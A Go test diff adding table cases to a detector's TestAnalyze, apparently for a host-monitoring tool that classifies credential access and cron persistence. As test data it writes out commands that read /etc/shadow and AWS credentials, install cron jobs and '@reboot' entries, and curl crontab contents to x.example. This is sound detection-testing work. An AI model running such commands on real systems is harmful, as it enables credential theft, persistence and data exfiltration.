@@ -50,6 +50,14 @@ func TestAnalyze(t *testing.T) {
 		{"cat /etc/shadow", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/cat", Detail: "cat /etc/shadow", PID: 4}}, moat.CategoryCredentialAccess, "high"},
 		{"cat ~/.aws/credentials in a shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c cat ~/.aws/credentials", PID: 4}}, moat.CategoryCredentialAccess, "high"},
 		{"crontab", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c echo '* * * * * python x' | crontab -", PID: 4}}, moat.CategoryPersistence, "high"},
+		{"crontab from a file", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/crontab", Detail: "crontab /tmp/.job", PID: 4}}, moat.CategoryPersistence, "high"},
+		{"a job copied into cron.d", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c cp /tmp/j /etc/cron.d/update", PID: 4}}, moat.CategoryPersistence, "high"},
+		{"a job appended to the spool", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c echo '@reboot x' >> /var/spool/cron/crontabs/root", PID: 4}}, moat.CategoryPersistence, "high"},
+		{"reading the crontab installs nothing", []moat.Event{
+			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c cat /etc/crontab", PID: 4},
+			{Source: "kernel", Kind: "exec", Path: "/bin/cat", Detail: "cat /etc/crontab", PID: 5, PPID: 4},
+			{Source: "kernel", Kind: "exec", Path: "/usr/bin/crontab", Detail: "crontab -l", PID: 6},
+			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c curl http://x.example/cron?data=%23+%2Fetc%2Fcrontab%3A+system-wide+crontab", PID: 7}}, moat.CategoryPersistence, ""},
 		{"pip's probes are not findings", []moat.Event{
 			{Source: "audit", Kind: "exec", Path: "lsb_release", Detail: "lsb_release -a", PID: 10},
 			{Source: "kernel", Kind: "exec", Path: "/usr/bin/lsb_release", Detail: "lsb_release -a", PID: 11, PPID: 10},
